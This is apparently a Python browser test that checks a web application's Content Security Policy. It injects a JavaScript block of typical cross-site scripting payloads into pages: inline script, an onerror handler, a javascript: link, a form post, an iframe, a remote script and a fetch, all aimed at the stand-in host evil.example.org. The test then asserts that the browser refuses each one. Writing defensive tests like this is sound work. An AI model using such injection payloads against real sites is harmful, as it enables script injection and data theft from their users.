"""What got into a page by whatever way can neither run nor call anybody: the browser itself refuses it."""

from collections.abc import Callable

import pytest

from tools.visit import Visit

pytestmark = pytest.mark.browser

SMUGGLED = """async () => {
  window.ran = [];
  const refused = [];
  document.addEventListener("securitypolicyviolation", (met) => refused.push(met.effectiveDirective));
  const inline = document.createElement("script");
  inline.textContent = "window.ran.push('inline')";
  document.body.append(inline);
  document.body.insertAdjacentHTML("beforeend", `
    <img src="https://evil.example.org/pixel.png"><img src="data:," onerror="window.ran.push('handler')">
    <a id="smuggled" href="javascript:window.ran.push('link')">x</a>
    <form id="sent" action="https://evil.example.org/"><input name="a"></form>
    <iframe src="https://evil.example.org/"></iframe>`);
  const foreign = document.createElement("script");
  foreign.src = "https://evil.example.org/x.js";
  document.body.append(foreign);
  document.getElementById("smuggled").click();
  document.getElementById("sent").submit();
  const asked = await fetch("https://evil.example.org/").then(() => "answered", () => "refused");
  // Of frames and forms the browser tells a moment later.
  for (let turn = 0; turn < 100 && new Set(refused).size < 6; turn++) await new Promise((done) => setTimeout(done, 50));
  return { ran: window.ran, refused: [...new Set(refused)].sort(), asked };
}"""


@pytest.mark.parametrize("path", ["/members?lang=en", "/present?story=glance&lang=en"])
def test_what_was_smuggled_in_neither_runs_nor_calls_anybody(visit: Callable[..., Visit], path: str) -> None:
    page = visit("/members?lang=en")
    if not path.startswith("/members"):
        page.page.goto(page.base + path)
    page.foreign.clear()
    failed: dict[str, str | None] = {}
    page.page.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
    found = page.page.evaluate(SMUGGLED)
    assert found["ran"] == []
    assert found["asked"] == "refused"
    ways = {"connect-src", "form-action", "frame-src", "img-src", "script-src-attr", "script-src-elem"}
    assert ways - set(found["refused"]) == set()
    # The browser tells of what it has not sent too, with the policy as the reason.
    assert {failed.get(address) for address in page.foreign} <= {"csp"}
